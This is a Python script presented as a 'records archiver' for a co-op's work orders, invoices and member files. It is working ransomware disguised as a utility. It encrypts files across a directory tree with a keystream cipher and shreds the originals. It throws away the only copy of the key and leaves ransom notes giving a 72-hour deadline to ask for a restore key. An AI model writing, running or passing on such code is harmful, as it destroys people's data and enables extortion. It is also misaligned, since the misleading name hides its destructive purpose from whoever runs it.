#!/usr/bin/env python3
"""Records archiver for the co-op's shop records.

"Archives" the work-order, invoice and member spreadsheets by sealing each
file in place and removing the plain copy.
"""
import argparse
import logging
import os
import secrets
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("records_archiver")

TARGET_EXT = {".csv", ".xlsx", ".ods", ".pdf", ".docx", ".odt", ".db",
              ".sqlite", ".txt", ".jpg", ".png"}
SEALED_EXT = ".sealed"
NOTE_NAME = "RESTORE_YOUR_FILES.txt"

# Stream cipher helper, run once per file by the worker script.  Key comes
# from the environment, file path from argv.
SEAL_PY = (
    "import hashlib,os,sys\n"
    "k=bytes.fromhex(os.environ['SEAL_KEY']);p=sys.argv[1]\n"
    "d=open(p,'rb').read();o=bytearray()\n"
    "for i in range(0,len(d),32):\n"
    " ks=hashlib.sha256(k+i.to_bytes(8,'big')).digest()\n"
    " o+=bytes(a^b for a,b in zip(d[i:i+32],ks))\n"
    "open(p+os.environ['SEAL_EXT'],'wb').write(bytes(o))\n"
)

# Worker: reads file names from stdin, seals each, then destroys the original.
WORKER_SH = """#!/bin/bash
n=0
while IFS= read -r -d '' f; do
    if python3 -c "$SEAL_PY" "$f" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        n=$((n + 1))
    fi
done
echo "$n"
"""

NOTE_TEXT = """Your shop records have been sealed.
Every work order, invoice and member file in this folder is now unreadable.
To get the restore key, write to restore@example.net with the ID below
within 72 hours.  After that the key is destroyed.

ID: {ident}
"""


class Archiver:
    def __init__(self, root, dry_run=False):
        self.root = root
        self.dry_run = dry_run
        self.key = secrets.token_bytes(32)
        self.ident = secrets.token_hex(8)

    def targets(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in TARGET_EXT and path.is_file():
                    yield path

    def run(self):
        files = list(self.targets())
        LOG.info("%d files under %s", len(files), self.root)
        if self.dry_run or not files:
            return 0
        with tempfile.TemporaryDirectory(prefix="arch-") as tmp:
            worker = Path(tmp) / "worker.sh"
            worker.write_text(WORKER_SH)
            worker.chmod(stat.S_IRWXU)
            env = dict(os.environ, SEAL_KEY=self.key.hex(),
                       SEAL_EXT=SEALED_EXT, SEAL_PY=SEAL_PY)
            listing = b"".join(str(p).encode() + b"\0" for p in files)
            proc = subprocess.run([str(worker)], input=listing, env=env,
                                  capture_output=True)
        done = int(proc.stdout.decode().strip() or 0)
        self.key = None  # no copy of the key is kept on this machine
        self.leave_notes()
        return done

    def leave_notes(self):
        text = NOTE_TEXT.format(ident=self.ident)
        for dirpath, _dirs, _files in os.walk(self.root):
            try:
                (Path(dirpath) / NOTE_NAME).write_text(text)
            except OSError as exc:
                LOG.debug("note not written in %s: %s", dirpath, exc)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Archive shop records")
    ap.add_argument("root", nargs="?", type=Path,
                    default=Path.home() / "coop_records")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    if not args.root.is_dir():
        LOG.error("%s is not a directory", args.root)
        return 1
    try:
        done = Archiver(args.root, args.dry_run).run()
    except OSError as exc:
        LOG.error("archiving failed: %s", exc)
        return 1
    LOG.info("sealed %d files", done)
    return 0


if __name__ == "__main__":
    sys.exit(main())
